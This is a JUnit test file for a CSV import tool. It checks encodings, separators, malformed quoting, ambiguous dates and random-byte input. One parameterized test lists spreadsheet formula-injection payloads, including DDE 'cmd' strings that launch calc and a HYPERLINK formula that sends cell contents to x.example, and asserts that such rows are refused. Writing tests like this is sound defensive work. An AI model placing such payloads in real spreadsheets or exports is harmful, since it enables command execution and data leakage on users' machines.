// SPDX-License-Identifier: Apache-2.0
package org.postern.agent.sheet;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.postern.agent.TestGateway;
import org.postern.agent.TestImport;
import org.postern.agent.TestSenders;
import org.postern.agent.intake.ImportReport;

class CsvTest {

    private static final String HEAD = "Name,DOB,Placing LA,Admission date\r\n";

    @TempDir
    private Path folder;

    @ParameterizedTest
    @ValueSource(strings = {"UTF-8", "windows-1252", "UTF-16LE", "UTF-16BE", "UTF-8 with mark"})
    void rowsWhenEncodedInAnyUsualWayThenLettersAreRight(String encoding) throws Exception {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        if (!encoding.equals("UTF-8") && !encoding.equals("windows-1252")) {
            bytes.write("\uFEFF".getBytes(charset(encoding)));
        }
        bytes.write("Name;Home\r\nZoë O’Brien;Tŷ Derw\r\n"
                .replace("ŷ", encoding.equals("windows-1252") ? "y" : "ŷ")
                .getBytes(charset(encoding)));

        List<SheetRow> rows = TestImport.rows(Files.write(folder.resolve("a.csv"), bytes.toByteArray()));

        assertThat(rows.get(0).cell(0).text()).isEqualTo("Name");
        assertThat(rows.get(1).cell(0).text()).isEqualTo("Zoë O’Brien");
    }

    private static Charset charset(String encoding) {
        return encoding.startsWith("UTF-8") ? StandardCharsets.UTF_8 : Charset.forName(encoding);
    }

    @ParameterizedTest
    @ValueSource(strings = {",", ";", "\t", "|"})
    void rowsWhenSeparatedInAnyUsualWayThenCellsAreApart(String separator) throws Exception {
        String text = String.join(separator, "Name", "Notes", "Home") + "\n"
                + String.join(separator, "A", "\"one, two; three\t\"\"x\"\"\nnext line\"", "B") + "\n";

        SheetRow row = TestImport.rows(write(text)).get(1);

        assertThat(TestImport.texts(row)).containsExactly("A", "one, two; three\t\"x\"\nnext line", "B");
        assertThat(row.number()).isEqualTo(2);
    }

    @Test
    void rowsWhenTheFileSaysItsSeparatorThenThatIsTaken() throws Exception {
        List<SheetRow> rows = TestImport.rows(write("sep=|\nName|Home, sweet, home\nA|B\n"));

        assertThat(TestImport.texts(rows.get(0))).containsExactly("Name", "Home, sweet, home");
        assertThat(rows.get(0).number()).isEqualTo(2);
    }

    @Test
    void rowsWhenLineEndsDifferThenRowsAreTheSame() throws Exception {
        assertThat(TestImport.rows(write("a,b\rc,d\r\ne,f\ng,h"))).hasSize(4);
    }

    @Test
    void runWhenAQuoteIsNeverClosedThenPst8011AndNothingIsSent() throws Exception {
        ImportReport report =
                run(HEAD + "Carys Penhallow,2/4/2012,Newport,2/11/2026\n\"Harvey Quill,1/7/2011,Newport,5/9/2026\n"
                        + "Amaal Warsame,15/1/2011,Newport,1/2/2026\n");

        assertThat(report.refused().orElseThrow().code()).isEqualTo("PST-8011");
        assertThat(report.refused().orElseThrow().text()).contains("row 3");
        assertThat(report.sent()).isZero();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                " =1+1",
                "\"\t=1+1\"",
                "＝1+1",
                "\"=HYPERLINK(\"\"http://x.example?\"\"&A1,\"\"click\"\")\""
            })
    void runWhenTextIsAFormulaThenTheRowIsRefused(String text) throws Exception {
        TestImport home = new TestImport(folder, TestSenders.home());
        TestGateway gateway = new TestGateway();

        home.run(
                write("Name,DOB,Placing LA,Admission date,Social worker\nCarys Penhallow,2/4/2012,Newport,2/11/2026,"
                        + text + "\n"),
                gateway);

        assertThat(gateway.documents()).isEmpty();
        assertThat(home.mend(1)).contains("PST-8030");
    }

    @Test
    void runWhenAColumnHasTheMonthFirstThenItsOtherDatesAreAskedAboutToo() throws Exception {
        TestImport home = new TestImport(folder, TestSenders.home());
        TestGateway gateway = new TestGateway();

        ImportReport report = home.run(
                write(HEAD + "Carys Penhallow,04/02/2012,Newport,2/11/2026\nHarvey Quill,07/21/2011,Newport,15/9/2026\n"
                        + "Amaal Warsame,03/03/2011,Newport,1/2/2026\n"),
                gateway);

        assertThat(report.failedRows()).isEqualTo(2);
        assertThat(home.mend(1)).contains("PST-8054");
        assertThat(home.mend(2)).contains("PST-8035");
        assertThat(gateway.documents()).hasSize(1);
    }

    @Test
    void runWhenAPhoneNumberBeginsWithPlusThenItIsNoFormula() throws Exception {
        ImportReport report = run("Name,DOB,Placing LA,Admission date,Social worker phone,GP\n"
                + "Carys Penhallow,2/4/2012,Newport,2/11/2026,+44 (0)1632 960210,-\n");

        assertThat(report.complete()).isTrue();
    }

    @Test
    void rowsWhenBytesAreRandomThenTheFileIsReadOrRefusedAndNeverThrows() throws Exception {
        Random random = new Random(8001);
        for (int i = 0; i < 60; i++) {
            byte[] noise = new byte[random.nextInt(400)];
            for (int j = 0; j < noise.length; j++) {
                noise[j] = (byte)
                        (random.nextInt(4) == 0 ? ",;\"\n\r\t|".charAt(random.nextInt(7)) : 1 + random.nextInt(255));
            }
            Path file = Files.write(folder.resolve("noise.csv"), noise);
            assertThat(new TestImport(folder, TestSenders.home())
                            .run(file, new TestGateway())
                            .sent())
                    .isZero();
        }
    }

    private ImportReport run(String text) throws Exception {
        return new TestImport(folder, TestSenders.home()).run(write(text), new TestGateway());
    }

    private Path write(String text) throws Exception {
        return Files.writeString(folder.resolve("a.csv"), text);
    }
}
